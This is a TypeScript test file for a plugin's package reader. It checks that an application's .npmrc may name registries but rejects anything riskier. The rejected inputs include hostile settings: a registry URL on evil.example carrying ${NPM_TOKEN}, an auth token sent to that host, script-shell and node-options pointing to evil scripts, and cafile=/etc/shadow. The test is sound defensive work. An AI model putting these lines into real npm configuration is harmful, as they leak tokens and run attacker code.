import assert from "node:assert/strict";
import { test } from "node:test";
import type { RenderContext, SourceTree, TreeEntry } from "@capstan/plugin-kit";
import { readPackages } from "./app-file.ts";

const root: TreeEntry = { path: "", name: "", kind: "directory", digest: "" };

function reading(settings: string) {
  const files: Record<string, string> = {
    "package.json": "{}",
    "package-lock.json": "{}",
    ".npmrc": settings,
  };
  const entry = async (path: string): Promise<TreeEntry | undefined> =>
    path === "" ? root : path in files ? { path, name: path, kind: "file", digest: path } : undefined;
  const tree: Pick<SourceTree, "entry" | "read"> = {
    entry,
    read: async ({ path }) => Buffer.from(files[path] ?? ""),
  };
  return readPackages({ tree, path: "" } as RenderContext);
}

test("an application's .npmrc names registries, and nothing that reaches further", async () => {
  await reading("registry=https://npm.example/\n# a note\n@own:registry = https://own.example\n");
  for (const line of [
    "registry=https://evil.example/${NPM_TOKEN}",
    "//evil.example/:_authToken=${npm_config__auth}",
    "git=./evil.sh",
    "script-shell=./evil.sh",
    "node-options=--require ./evil.js",
    "userconfig=../../.npmrc",
    "cafile=/etc/shadow",
    "strict-ssl=false",
    "prefix=/usr",
    "https-proxy=http://evil.example",
  ])
    await assert.rejects(
      reading(`registry=https://npm.example/\n ${line}\n`),
      /an application may not choose/,
      line,
    );
});
